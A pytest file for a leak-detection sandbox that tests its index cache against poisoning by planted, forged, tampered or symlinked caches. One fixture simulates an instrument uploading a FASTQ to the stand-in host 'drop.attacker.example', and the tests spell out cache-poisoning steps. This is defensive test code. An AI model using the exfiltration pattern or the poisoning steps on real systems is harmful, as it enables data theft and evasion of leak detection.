"""Index poisoning (issue 7): the instrument writes the run folder, so it must not be able to feed the
rig an index. A cache planted where the old versions kept it, or forged in the rig's cache without the
rig's key, or tampered by one byte, never turns a leak into "clean"; caches are private files."""

from __future__ import annotations

import dataclasses
import json
import os
import secrets
import stat
import time
from pathlib import Path

import numpy as np
import pytest

from sandbox.captures.writer import PcapngWriter, TcpConversation
from sandbox.cli import main
from sandbox.index import build_index, cache_folder, manifest_of
from sandbox.index import cache as index_cache
from sandbox.index.build import FP_BUDGET
from sandbox.simulate.runfolder import make_illumina_run, sample_fastqs
from sandbox.simulate.wire import http_request, http_response

INSTRUMENT = ("10.20.0.5", 49200)
DROP = ("203.0.113.9", 80)  # RFC 5737 documentation address: not on any allow-list


@pytest.fixture
def rig(tmp_path, monkeypatch) -> Path:
    """This test's own rig cache and key folders."""
    monkeypatch.setenv("SANDBOX_CACHE_DIR", str(tmp_path / "rig" / "cache"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "rig" / "state"))
    return tmp_path / "rig"


@pytest.fixture
def leak(tmp_path) -> tuple[Path, Path, str]:
    """A run folder and a capture of its instrument POSTing one whole FASTQ.gz to an unlisted host."""
    run = make_illumina_run(tmp_path / "runs", seed=7, samples=1, reads_per_sample=2000, with_bcl=False)
    fastq = next(iter(sample_fastqs(run).values()))
    capture = tmp_path / "leak.pcapng"
    with PcapngWriter(capture) as w:
        conv = TcpConversation(w, INSTRUMENT, DROP)
        conv.send(http_request("POST", "/upload", "drop.attacker.example", fastq.read_bytes(),
                               content_type="application/octet-stream"))
        conv.send(http_response(b'{"ok":true}'), from_client=False)
        conv.close()
    return run, capture, fastq.relative_to(run).as_posix()


def replay_report(capture: Path, run: Path, out: Path, *extra: str) -> tuple[int, dict]:
    status = main(["replay", str(capture), "--run", str(run), "--report", str(out), "--quiet", *extra])
    return status, json.loads(out.read_text())


def assert_leak_found(status: int, report: dict, rel: str) -> None:
    assert status == 1 and report["verdict"] == "leak"
    leaked = [f for f in report["findings"] if f["kind"] == "run-bytes" and f["severity"] == "critical"]
    assert leaked and any(x["path"] == rel and x["fraction"] > 0.9 for f in leaked for x in f["files"])


def poisoned(index):
    """The index an attacker wants the rig to use: same run, nothing to match against."""
    empty = {name: np.empty(0, dtype=getattr(index, name).dtype) for name in index_cache.ARRAYS}
    return dataclasses.replace(index, identifiers=[], **empty)


def test_index_poisoning_planted_in_the_run_folder_is_never_read(rig, leak, tmp_path, capsys):
    """An empty index in RUN_DIR/.sandbox-index, in the format and with the manifest the old versions
    trusted (path, size, mtime), made the 1.4 MB leak replay clean. The rig no longer looks there."""
    run, capture, rel = leak
    reference = poisoned(build_index(run, cache_dir=tmp_path / "scratch"))
    planted = run / ".sandbox-index"
    planted.mkdir()
    for name in index_cache.ARRAYS:
        np.save(planted / f"{name}.npy", getattr(reference, name))
    old_manifest = [row[:3] for row in manifest_of(run)] + [["__params__", FP_BUDGET, 0]]
    (planted / "index.json").write_text(json.dumps({**reference.to_meta(), "version": 3, "manifest": old_manifest}))
    status, report = replay_report(capture, run, tmp_path / "r.json")
    assert_leak_found(status, report, rel)
    assert not list(Path(os.environ["SANDBOX_CACHE_DIR"]).rglob(".sandbox-index"))


def test_index_poisoning_forged_in_the_rig_cache_without_the_key_is_rebuilt(rig, leak, tmp_path, capsys):
    """A well-formed cache with the current manifest, MAC'd under a key that is not the rig's."""
    run, capture, rel = leak
    reference = build_index(run, cache_dir=tmp_path / "scratch")
    manifest = manifest_of(run) + [["__params__", FP_BUDGET, 0]]
    folder = cache_folder(run)
    index_cache.save(poisoned(reference), folder, manifest, secrets.token_bytes(index_cache.KEY_BYTES))
    capsys.readouterr()
    status, report = replay_report(capture, run, tmp_path / "r.json")
    assert_leak_found(status, report, rel)
    err = capsys.readouterr().err
    assert err.count("failed authentication") == 1 and str(folder) in err  # said once, not fatal
    assert any("failed authentication" in note for note in report["notes"])   # and in the report
    assert build_index(run).cached  # the rebuilt cache is the rig's own, and trusted again


def test_index_poisoning_edited_metadata_fails_the_mac(rig, leak, tmp_path):
    run, _, _ = leak
    build_index(run)
    path = cache_folder(run) / "index.json"
    outer = json.loads(path.read_text())
    meta = json.loads(outer["meta"])
    meta["identifiers"] = []
    path.write_text(json.dumps({**outer, "meta": json.dumps(meta)}))
    again = build_index(run)
    assert not again.cached and again.identifiers and "failed authentication" in again.notes[0]


@pytest.mark.parametrize("stamped", [False, True], ids=["full-check", "stamped"])
def test_index_poisoning_one_tampered_byte_in_a_cached_array_rebuilds(rig, leak, stamped):
    run, _, _ = leak
    first = build_index(run)
    folder = cache_folder(run)
    if stamped:  # let the arrays age past the stamp's slack, then a verified reuse stamps them
        time.sleep(index_cache.CTIME_SLACK_NS / 1e9 + 0.02)
        assert build_index(run).cached and (folder / "stamp.json").is_file()
    array = next(folder.glob("km-*.npy"))
    with open(array, "r+b") as fh:  # the last k-mer's top byte
        fh.seek(-1, os.SEEK_END)
        byte = fh.read(1)
        fh.seek(-1, os.SEEK_END)
        fh.write(bytes([byte[0] ^ 0x40]))
    again = build_index(run)
    assert not again.cached and len(again.notes) == 1 and "does not match" in again.notes[0]
    assert np.array_equal(again.km, first.km)
    assert build_index(run).cached


def test_index_cache_unreadable_or_missing_key_rebuilds(rig, leak):
    run, _, _ = leak
    build_index(run)
    folder = cache_folder(run)
    next(folder.glob("fp_hash-*.npy")).unlink()
    again = build_index(run)
    assert not again.cached and "unreadable" in again.notes[0]
    index_cache.key_path().unlink()  # a new rig key: caches made under the old one are in doubt
    again = build_index(run)
    assert not again.cached and "failed authentication" in again.notes[0]
    assert build_index(run).cached


def test_index_cache_key_readable_by_others_is_replaced(rig, leak):
    run, _, _ = leak
    build_index(run)
    key = index_cache.key_path()
    old = key.read_bytes()
    key.chmod(0o644)
    again = build_index(run)
    assert not again.cached and key.read_bytes() != old and stat.S_IMODE(key.stat().st_mode) == 0o600
    assert any("mode 644" in n and "replaced" in n for n in again.notes)


def test_index_cache_inside_the_run_folder_is_not_used(rig, leak, capsys):
    run, _, _ = leak
    before = sorted(p.relative_to(run) for p in run.rglob("*"))
    ix = build_index(run, cache_dir=run / "cache")
    assert not ix.cached and "inside the run folder" in ix.notes[0]
    assert sorted(p.relative_to(run) for p in run.rglob("*")) == before
    assert "inside the run folder" in capsys.readouterr().err


@pytest.mark.parametrize("planted", ["symlink", "other-user"])
def test_index_cache_folder_planted_by_someone_else_is_not_used(rig, leak, tmp_path, planted):
    """In a shared --cache-dir another user could pre-make a run's folder (or link it elsewhere) to read
    or plant what the rig writes there."""
    run, _, _ = leak
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    folder = cache_folder(run, tmp_path / "shared")
    folder.parent.mkdir(parents=True)
    if planted == "symlink":
        folder.symlink_to(elsewhere)
    else:
        if os.geteuid() != 0:
            pytest.skip("only root can give a folder to another user")
        folder.mkdir(mode=0o777)
        os.chown(folder, 65534, 65534)  # nobody
        elsewhere = folder
    ix = build_index(run, cache_dir=tmp_path / "shared")
    assert not ix.cached and "not a folder of this user" in ix.notes[0]
    assert not any(elsewhere.iterdir())


def test_index_cache_files_are_private(rig, leak):
    """Caches hold packed read k-mers: folders 0700 and files 0600 whatever the umask."""
    run, _, _ = leak
    old = os.umask(0)
    try:
        build_index(run)
        build_index(run, cache_dir=rig / "given")
    finally:
        os.umask(old)
    for root in (rig / "cache", rig / "given", rig / "state"):
        for p in [root, *root.rglob("*")]:
            assert stat.S_IMODE(p.stat().st_mode) == (0o700 if p.is_dir() else 0o600), p
    assert index_cache.key_path().is_file() and any((rig / "given").rglob("km-*.npy"))
